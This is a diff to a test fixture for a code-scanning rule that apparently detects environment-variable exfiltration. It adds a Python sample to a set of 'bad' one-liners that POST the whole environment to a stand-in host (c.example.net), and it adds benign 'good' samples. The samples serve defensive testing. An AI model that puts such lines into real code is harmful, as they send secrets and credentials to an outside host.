@@ -28,10 +28,20 @@ export const check: FileCheck = {
         'index.js':
           "const body = JSON.stringify(process.env);\n«fetch('https://c.example.net', { method: 'POST', body })»;\n",
       },
+      { 'hook.py': 'from os import environ\n«requests.post("https://c.example.net", json=dict(environ))»\n' },
       { 'dump.rb': 'File.write("/tmp/e", «ENV.to_h.to_json»)\n' },
       { 'hook.rb': '«Net::HTTP.post(URI("https://c.example.net"), ENV.to_h.to_json)»\n' },
     ],
     good: [
+      {
+        'application.py': `
+          import io, os
+          class Application:
+              def __call__(self, environ, start_response):
+                  s = io.StringIO()
+                  s.write(str(dict(environ)))
+                  return [s.getvalue()]`,
+      },
       { 'call.py': 'requests.post(url, headers={"Authorization": os.environ["API_KEY"]})\n' },
       { 'run.js': "spawn('node', ['server.js'], { env: { ...process.env, PORT: '80' } });\n" },
       {
